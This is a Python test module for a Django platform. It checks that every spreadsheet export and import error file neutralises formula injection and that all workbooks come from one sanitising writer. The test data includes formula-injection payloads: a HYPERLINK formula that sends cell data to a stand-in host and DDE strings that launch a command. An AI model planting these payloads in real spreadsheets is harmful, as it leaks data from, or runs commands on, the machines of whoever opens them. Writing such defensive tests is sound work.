"""Formula injection (issue 9, item 7; ARCHITECTURE §10): a text starting with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return that someone typed into the platform (an enterprise's name, a hazard's description, an
uploaded cell) must reach the reader of any spreadsheet the platform hands out as that text, never as a
formula Excel or WPS would run. Every spreadsheet route is downloaded with such values planted in its text
fields; a route that hands out a spreadsheet and is not listed here fails; and the source is read to refuse
any spreadsheet written outside the one writer in core (shouye/core/xlsx.py)."""

import ast
import io
import re
import zipfile
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from shouye.accounts.models import User
from shouye.enterprises.choices import PersonRole
from shouye.enterprises.models import Enterprise, ImportJob, Industry, Tag
from shouye.hazards.choices import HazardState
from shouye.hazards.models import Hazard, LedgerExport
from shouye.risks.models import ControlMeasure, HazardSource, RiskPoint
from tests.conftest import api_as
from tests.factories import LicenceFactory, PersonFactory, UserFactory
from tests.hazards.conftest import make_hazard

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&C2,"详情")'
DDE = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
#: What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection").
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")
ROOT = Path(__file__).resolve().parents[2]


def inert_texts(content: bytes) -> list[str]:
    """Every text cell of every sheet, after checking that nothing in the workbook can act as a formula: no
    formula element in any sheet's XML, no cell openpyxl reads as a formula, and every text that starts like
    one in the quotePrefix style (Excel and WPS show it as it is, and keep it text when it is edited)."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not _FORMULA_ELEMENT.search(package.read(name)), f"a formula in {name}"
    texts = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = (sheet.title, cell.coordinate, cell.value)
                assert cell.data_type != "f", where
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS) or cell.quotePrefix, where
                    texts.append(cell.value)
    return texts


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def planted(cast, settings):
    """The enterprise ``inside`` and one of its hazards with a formula-like text in every text column the
    exports write (and a negative amount, which must stay a number); staff signed in to download them."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    inside = cast["inside"]
    type(inside).objects.filter(pk=inside.pk).update(name=LINK, legal_representative=DDE, address=MINUS)
    PersonFactory(enterprise=inside, role=PersonRole.PRINCIPAL, name=AT)
    PersonFactory(enterprise=inside, role=PersonRole.SAFETY_OFFICER, name=CR)
    LicenceFactory(enterprise=inside)
    tag = Tag.objects.get(code="mhi")
    Tag.objects.filter(pk=tag.pk).update(name=TAB)
    inside.tags.add(tag)
    Industry.objects.filter(code="construction").update(name=LINK)
    reviewer = UserFactory(username="formula-reviewer", display_name=TAB)
    make_hazard(inside, state=HazardState.CLOSED, description=DDE, funds=Decimal("-5.00"),
                reinspected_at=timezone.now() - timedelta(hours=1), reinspected_by=reviewer)
    make_hazard(inside, state=HazardState.RECTIFYING, description=CR)
    Hazard.objects.filter(enterprise=inside).update(measures=MINUS, responsible_person=AT)
    return cast["users"]["bureau_staff"]


def _enterprise_export_page(client, staff, django_capture_on_commit_callbacks, settings):
    return body(client.get(reverse("enterprises:export")))


def _enterprise_export_api(client, staff, django_capture_on_commit_callbacks, settings):
    return body(api_as(staff).get("/api/v1/enterprises/export/"))


def _ledger_export_page(client, staff, django_capture_on_commit_callbacks, settings):
    return body(client.get(reverse("hazards:export")))


def _ledger_export_api(client, staff, django_capture_on_commit_callbacks, settings):
    return body(api_as(staff).get("/api/v1/hazards/export/"))


def _ledger_export_job_file(client, staff, django_capture_on_commit_callbacks, settings):
    settings.SHOUYE_LEDGER_SYNC_MAX_ROWS = 1
    with django_capture_on_commit_callbacks(execute=True):
        assert client.get(reverse("hazards:export")).status_code == 302
    job = LedgerExport.objects.get()
    return body(client.get(reverse("hazards:export-job-file", args=[job.pk])))


def _liveness_export(client, staff, django_capture_on_commit_callbacks, settings):
    return body(client.get(reverse("risks:liveness-export")))


def _import_template(client, staff, django_capture_on_commit_callbacks, settings):
    return body(client.get(reverse("enterprises:import-template")))


def _import_error_file(client, staff, django_capture_on_commit_callbacks, settings):
    """An upload whose rows hold formula-like texts (stored as text, as Excel stores a cell typed with a
    leading apostrophe) and a real formula, refused for an unknown township."""
    template = body(client.get(reverse("enterprises:import-template")))
    workbook = load_workbook(io.BytesIO(template))
    sheet = workbook.worksheets[0]
    for column, value in enumerate([LINK, "91370113MA3C4XYZ1Q", "火星镇", "危险化学品", DDE, MINUS], start=1):
        cell = sheet.cell(row=2, column=column, value=value)
        cell.data_type = "s"
    sheet.cell(row=3, column=1, value="=A2&B2")
    sheet.cell(row=3, column=5, value=AT).data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    upload = io.BytesIO(buffer.getvalue())
    upload.name = "公式.xlsx"
    client.post(reverse("enterprises:import"), {"file": upload})
    job = ImportJob.objects.get(created_by=staff)
    assert job.status == ImportJob.Status.FAILED and job.error_file
    return body(client.get(reverse("enterprises:import-error-file", args=[job.pk])))


def _plant_worker(staff):
    from shouye.accounts.models import User
    from shouye.core.identifiers import id_number
    from shouye.enterprises.models import Enterprise
    from shouye.workareas.models import WorkArea, Worker

    inside = Enterprise.objects.get(memberships__user__username="enterprise_user")
    stamps = {"enterprise": inside, "township_id": inside.township_id, "industry_id": inside.industry_id}
    area = WorkArea.objects.create(**stamps, name=AT, assessed_on="2026-01-01", high_risk=True, max_people=3,
                                   assessment_reason=TAB)
    worker = Worker.objects.create(**stamps, name=DDE, post=MINUS, id_number=id_number(5))
    worker.work_areas.add(area)
    return User.objects.get(username="enterprise_user")


def _worker_export_page(client, staff, django_capture_on_commit_callbacks, settings):
    _plant_worker(staff)
    return body(client.get(reverse("workareas:worker-export")))


def _worker_export_api(client, staff, django_capture_on_commit_callbacks, settings):
    _plant_worker(staff)
    return body(api_as(staff).get("/api/v1/workers/export/"))


def _worker_export_job_file(client, staff, django_capture_on_commit_callbacks, settings):
    from shouye.workareas.models import WorkerExport

    _plant_worker(staff)
    settings.SHOUYE_LEDGER_SYNC_MAX_ROWS = 0
    with django_capture_on_commit_callbacks(execute=True):
        assert client.get(reverse("workareas:worker-export")).status_code == 302
    job = WorkerExport.objects.get()
    return body(client.get(reverse("workareas:export-job-file", args=[job.pk])))


def _worker_import_template(client, staff, django_capture_on_commit_callbacks, settings):
    client.force_login(_plant_worker(staff))
    return body(client.get(reverse("workareas:import-template")))


def _worker_import_error_file(client, staff, django_capture_on_commit_callbacks, settings):
    from shouye.workareas.models import WorkerImportJob

    owner = _plant_worker(staff)
    client.force_login(owner)
    workbook = load_workbook(io.BytesIO(body(client.get(reverse("workareas:import-template")))))
    sheet = workbook.worksheets[0]
    for column, value in enumerate([LINK, "不是身份证号", DDE, MINUS], start=1):
        sheet.cell(row=2, column=column, value=value).data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    upload = io.BytesIO(buffer.getvalue())
    upload.name = "公式.xlsx"
    client.post(reverse("workareas:import"), {"file": upload})
    job = WorkerImportJob.objects.get(created_by=owner)
    assert job.status == WorkerImportJob.Status.FAILED and job.error_file
    return body(client.get(reverse("workareas:import-error-file", args=[job.pk])))

def _plant_risk_point() -> Enterprise:
    """A risk point of ``inside`` (named LINK by ``planted``; the register, issue 11) with a formula-like text in
    each text column."""
    inside = Enterprise.objects.get(name=LINK)
    point = RiskPoint(enterprise=inside, code="RP-1", name=DDE, kind="facility", department=LINK,
                      responsible_person=AT, control_focus=MINUS, grade="high", control_level="deputy")
    point.stamp_from(inside)
    point.save()
    source = HazardSource.objects.create(risk_point=point, identification_method="jha", step_or_item=TAB, name=CR,
                                         factor_category="people", grade="high")
    ControlMeasure.objects.create(hazard_source=source, category="1", subcategory="1-1", description=TAB,
                                  check_content=AT)
    return inside


def _risk_control_list(client, staff, django_capture_on_commit_callbacks, settings):
    return body(client.get(reverse("risks:control-list-export", args=[_plant_risk_point().pk])))


def _risk_source_ledger(client, staff, django_capture_on_commit_callbacks, settings):
    return body(client.get(reverse("risks:source-ledger-export", args=[_plant_risk_point().pk])))


def _risk_import_template(client, staff, django_capture_on_commit_callbacks, settings):
    client.force_login(User.objects.get(username="enterprise_user"))
    return body(client.get(reverse("risks:import-template")))

def _risk_import_error_file(client, staff, django_capture_on_commit_callbacks, settings):
    """A risk list whose cells hold formula-like texts, refused for an unknown kind: the file with the error
    column hands them back as text."""
    from shouye.risks.models import RiskImportJob

    owner = User.objects.get(username="enterprise_user")
    client.force_login(owner)
    workbook = load_workbook(io.BytesIO(body(client.get(reverse("risks:import-template")))))
    sheet = workbook.worksheets[0]
    for column, value in enumerate([LINK, DDE, "不存在的类型", "", MINUS], start=1):
        sheet.cell(row=2, column=column, value=value).data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    upload = io.BytesIO(buffer.getvalue())
    upload.name = "公式.xlsx"
    client.post(reverse("risks:import"), {"file": upload})
    job = RiskImportJob.objects.get(created_by=owner)
    assert job.status == RiskImportJob.Status.FAILED and job.error_file
    return body(client.get(reverse("risks:import-error-file", args=[job.pk])))


def _major_hazard_export(client, planted, capture, settings):
    """An installation of the planted enterprise named and located with formula-like texts."""
    from shouye.enterprises.models import Enterprise
    from shouye.major_hazards import services as mhi
    from tests.factories import member

    owner = UserFactory(username="mhi-owner")
    enterprise = Enterprise.objects.get(name=LINK)
    member(owner, "enterprise_user", enterprise=enterprise)
    mhi.create_installation(actor=owner, enterprise=enterprise, name=DDE, kind="tank_farm", location=MINUS,
                            substances=[{"name": "甲醇", "quantity_t": 1}])
    mhi.create_installation(actor=owner, enterprise=enterprise, name=AT, kind="tank_farm")
    return body(client.get(reverse("major_hazards:export")))


def _plan_statistics_export(client, planted, capture, settings):
    """A plan of the planted enterprise: its township's row of the statistics (townships and kinds of unit,
    no free text of a user's)."""
    from shouye.enterprises.models import Enterprise
    from shouye.plans import services as plans
    from tests.factories import member

    owner = UserFactory(username="plan-owner")
    enterprise = Enterprise.objects.get(name=LINK)
    member(owner, "enterprise_user", enterprise=enterprise)
    plans.create_plan(actor=owner, enterprise=enterprise, kind="comprehensive", title=DDE)
    return body(client.get(reverse("plans:statistics-export")))


def _permit_statistics_export(client, planted, capture, settings):
    """A permit of the planted enterprise (whose name is a formula) this month: its row of the statistics."""
    from shouye.enterprises.models import Enterprise
    from tests.permits.boardkit import make_permit

    make_permit(Enterprise.objects.get(name=LINK), kind="hot_work", grade="2")
    return body(client.get(reverse("permits:statistics-export")))


def _alarm_daily_report(client, planted, capture, settings):
    """An alarm of the planted enterprise today, its cause and measures formula-like texts."""
    from shouye.enterprises.models import Enterprise
    from tests.monitoring import kit

    point = kit.point(kit.gateway(Enterprise.objects.get(name=LINK)))
    kit.alarm(point_row=point, raised_at=timezone.now() - timedelta(minutes=5), cause=DDE, measures=MINUS)
    return body(client.get(reverse("monitoring:report-export")))
def _alarm_export(client, planted, capture, settings):
    """An alarm of the planted enterprise whose handling's cause and measures are formula-like texts."""
    from shouye.enterprises.models import Enterprise
    from tests.monitoring import kit

    camera = kit.camera(kit.vendor(), Enterprise.objects.get(name=LINK))
    kit.alarm(camera_row=camera, state="handling", cause=DDE, measures=MINUS)
    kit.alarm(camera_row=camera, state="handling", cause=AT)
    return body(client.get(reverse("monitoring:alarm-export")))


def _point_importer(client):
    """The enterprise user of the planted enterprise (named LINK), with a gateway named with a formula-like text."""
    from tests.monitoring import kit

    owner = User.objects.get(username="enterprise_user")
    kit.gateway(Enterprise.objects.get(name=LINK), code="gw-formula", name=DDE)
    client.force_login(owner)
    return owner


def _point_import_template(client, staff, django_capture_on_commit_callbacks, settings):
    _point_importer(client)
    return body(client.get(reverse("monitoring:import-template")))


def _point_import_error_file(client, staff, django_capture_on_commit_callbacks, settings):
    """Points whose cells hold formula-like texts, refused for an unknown gateway: the file with the error column
    hands them back as text."""
    from shouye.monitoring.models import PointImportJob

    owner = _point_importer(client)
    workbook = load_workbook(io.BytesIO(body(client.get(reverse("monitoring:import-template")))))
    sheet = workbook.worksheets[0]
    for column, value in enumerate([LINK, DDE, MINUS, "压力", "MPa", "0", "2.5"], start=1):
        sheet.cell(row=2, column=column, value=value).data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    upload = io.BytesIO(buffer.getvalue())
    upload.name = "公式.xlsx"
    client.post(reverse("monitoring:import"), {"file": upload})
    job = PointImportJob.objects.get(created_by=owner)
    assert job.status == PointImportJob.Status.FAILED and job.error_file
    return body(client.get(reverse("monitoring:import-error-file", args=[job.pk])))


def _duty_roster_export(client, staff, django_capture_on_commit_callbacks, settings):
    """A month of the bureau's roster whose people are named with formula-like texts."""
    from datetime import date

    from shouye.duty import services as duty
    from shouye.duty.models import DutyPosition

    roster = duty.create_roster(actor=staff, unit_kind="bureau", year=2026, month=2)
    officer = DutyPosition.objects.get(code="officer")
    for day, name in ((1, DDE), (2, MINUS), (3, AT)):
        duty.add_assignment(actor=staff, roster=roster, day=date(2026, 2, day), position=officer, name=name)
    return body(client.get(reverse("duty:roster-export", args=[roster.pk])))


def _stock_import_template(client, staff, django_capture_on_commit_callbacks, settings):
    """The stock list's template lists the warehouses and the catalogue: a warehouse and an item named like
    formulas come out as text."""
    from shouye.resources import services as resources

    resources.create_warehouse(actor=staff, name=LINK, latitude=36.5, longitude=116.7)
    resources.create_item(actor=staff, name=DDE, category="防汛", unit="件")
    return body(client.get(reverse("resources:import-template")))


def _stock_import_error_file(client, staff, django_capture_on_commit_callbacks, settings):
    """Rows whose cells hold formula-like texts, refused (no such warehouse or item): the file with the error
    column hands them back as text."""
    from shouye.resources.models import StockImportJob

    workbook = load_workbook(io.BytesIO(body(client.get(reverse("resources:import-template")))))
    sheet = workbook.worksheets[0]
    for column, value in enumerate([LINK, DDE, MINUS], start=1):
        sheet.cell(row=2, column=column, value=value).data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    upload = io.BytesIO(buffer.getvalue())
    upload.name = "公式.xlsx"
    client.post(reverse("resources:import"), {"file": upload})
    job = StockImportJob.objects.get(created_by=staff)
    assert job.status == StockImportJob.Status.FAILED and job.error_file
    return body(client.get(reverse("resources:import-error-file", args=[job.pk])))


#: Every route that hands out a spreadsheet, with how to download it and the planted texts it must show.
SPREADSHEET_ROUTES = {
    "enterprises:export": (_enterprise_export_page, {LINK, DDE, MINUS, AT, TAB, CR}),
    "enterprise-export": (_enterprise_export_api, {LINK, DDE, MINUS, AT, TAB, CR}),
    "hazards:export": (_ledger_export_page, {LINK, DDE, CR, MINUS, AT, TAB}),
    "hazard-export": (_ledger_export_api, {LINK, DDE, CR, MINUS, AT, TAB}),
    "hazards:export-job-file": (_ledger_export_job_file, {LINK, DDE, CR, MINUS, AT, TAB}),
    "risks:liveness-export": (_liveness_export, {LINK}),
    "enterprises:import-template": (_import_template, {LINK, TAB}),
    "enterprises:import-error-file": (_import_error_file, {LINK, DDE, MINUS, AT}),
    "workareas:worker-export": (_worker_export_page, {LINK, DDE, MINUS, AT}),
    "worker-export": (_worker_export_api, {LINK, DDE, MINUS, AT}),
    "workareas:export-job-file": (_worker_export_job_file, {LINK, DDE, MINUS, AT}),
    "workareas:import-template": (_worker_import_template, {AT}),
    "workareas:import-error-file": (_worker_import_error_file, {LINK, DDE, MINUS}),
    "risks:control-list-export": (_risk_control_list, {DDE, LINK, AT, MINUS, CR, TAB}),
    "risks:source-ledger-export": (_risk_source_ledger, {DDE, CR, TAB}),
    "risks:import-template": (_risk_import_template, set()),
    "risks:import-error-file": (_risk_import_error_file, {LINK, DDE, MINUS}),
    "major_hazards:export": (_major_hazard_export, {LINK, DDE, MINUS, AT}),
    "permits:statistics-export": (_permit_statistics_export, {LINK}),
    "plans:statistics-export": (_plan_statistics_export, set()),
    "monitoring:report-export": (_alarm_daily_report, {LINK, DDE, MINUS}),
    "monitoring:alarm-export": (_alarm_export, {LINK, DDE, MINUS, AT}),
    "monitoring:import-template": (_point_import_template, {LINK, DDE}),
    "monitoring:import-error-file": (_point_import_error_file, {LINK, DDE, MINUS}),
    "duty:roster-export": (_duty_roster_export, {DDE, MINUS, AT}),
    "resources:import-template": (_stock_import_template, {LINK, DDE}),
    "resources:import-error-file": (_stock_import_error_file, {LINK, DDE, MINUS}),
}
#: Downloads that are not spreadsheets: inspection documents are PDFs (WeasyPrint from HTML templates).
OTHER_DOWNLOADS = {"inspections:document-download", "inspection-document-download"}
#: Routes whose name only looks like a download: filing a permit with the bureau (报备) is an act, and so is
#: recording an emergency plan's filing (备案), and filing a township's or enterprise's duty roster (报备).
NOT_DOWNLOADS = {"permits:file", "permit-file", "plans:file", "emergency-plan-file", "duty:file", "duty-roster-file"}


@pytest.mark.parametrize("name", sorted(SPREADSHEET_ROUTES))
def test_no_spreadsheet_route_hands_out_a_formula(client, planted, name, django_capture_on_commit_callbacks,
                                                  settings):
    client.force_login(planted)
    download, expected = SPREADSHEET_ROUTES[name]
    texts = inert_texts(download(client, planted, django_capture_on_commit_callbacks, settings))
    assert expected <= set(texts), expected - set(texts)


def test_a_negative_amount_stays_a_number(client, planted):
    client.force_login(planted)
    sheet = load_workbook(io.BytesIO(body(client.get(reverse("hazards:export"))))).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    funds = [row[header.index("整改资金(元)")] for row in sheet.iter_rows(min_row=2)]
    assert [(cell.value, cell.data_type) for cell in funds if cell.value is not None] == [(-5, "n")]


def _routes(resolver=None, prefix="", namespace=""):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _routes(pattern, prefix + str(pattern.pattern), inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield prefix + str(pattern.pattern), namespace + pattern.name


def test_every_download_route_is_listed_here():
    """A new export, template or file download joins the test above (or is named as not a spreadsheet)."""
    downloads = {name for path, name in _routes()
                 if not name.startswith("admin:") and name not in NOT_DOWNLOADS
                 and (re.search(r"(export|template|file|download)$", name) or ".xlsx" in path)}
    assert downloads == set(SPREADSHEET_ROUTES) | OTHER_DOWNLOADS


# --- the source: one writer ----------------------------------------------------------------------------------

#: The one module that may create or save a workbook.
WRITER = ROOT / "shouye" / "core" / "xlsx.py"
_FORBIDDEN_IMPORTS = {("openpyxl", "Workbook"), ("openpyxl.workbook", "Workbook"),
                      ("openpyxl.workbook.workbook", "Workbook"), ("openpyxl.writer.excel", "save_workbook"),
                      ("openpyxl.writer.excel", "ExcelWriter"), ("csv", "writer"), ("csv", "DictWriter")}


def spreadsheet_writers(source: str) -> list[tuple[int, str]]:
    """(line, what) of every way this source could write a spreadsheet itself."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            found += [(node.lineno, f"import {a.name}") for a in node.names if a.name.split(".")[0] == "xlsxwriter"]
        elif isinstance(node, ast.ImportFrom):
            module = node.module or ""
            if module.split(".")[0] == "xlsxwriter":
                found.append((node.lineno, f"from {module} import …"))
            found += [(node.lineno, f"from {module} import {a.name}") for a in node.names
                      if (module, a.name) in _FORBIDDEN_IMPORTS]
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) \
                and (node.value.id, node.attr) in {("openpyxl", "Workbook"), ("csv", "writer"), ("csv", "DictWriter")}:
            found.append((node.lineno, f"{node.value.id}.{node.attr}"))
        elif isinstance(node, ast.Call):
            name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            read_only = any(k.arg == "read_only" and isinstance(k.value, ast.Constant) and k.value.value is True
                            for k in node.keywords)
            if name == "load_workbook" and not read_only:
                found.append((node.lineno, "load_workbook(…) without read_only=True"))
    return sorted(found)


def test_the_refusal_sees_each_way_of_writing_a_workbook():
    assert [what for _line, what in spreadsheet_writers(
        "from openpyxl import Workbook, load_workbook\nimport openpyxl, xlsxwriter, csv\n"
        "openpyxl.Workbook()\nload_workbook(f)\nload_workbook(f, read_only=True)\ncsv.writer(f)\n"
        "from openpyxl.writer.excel import save_workbook\n")] == [
        "from openpyxl import Workbook", "import xlsxwriter", "openpyxl.Workbook",
        "load_workbook(…) without read_only=True", "csv.writer", "from openpyxl.writer.excel import save_workbook"]


def test_no_spreadsheet_is_written_outside_the_one_writer():
    offenders = []
    for path in sorted([*(ROOT / "shouye").rglob("*.py"), *(ROOT / "config").rglob("*.py")]):
        if path == WRITER or "migrations" in path.parts:
            continue
        offenders += [f"{path.relative_to(ROOT)}:{line}: {what}"
                      for line, what in spreadsheet_writers(path.read_text(encoding="utf-8"))]
    assert offenders == [], "write spreadsheets with shouye.core.xlsx, which neutralises formulas:\n" + \
        "\n".join(offenders)
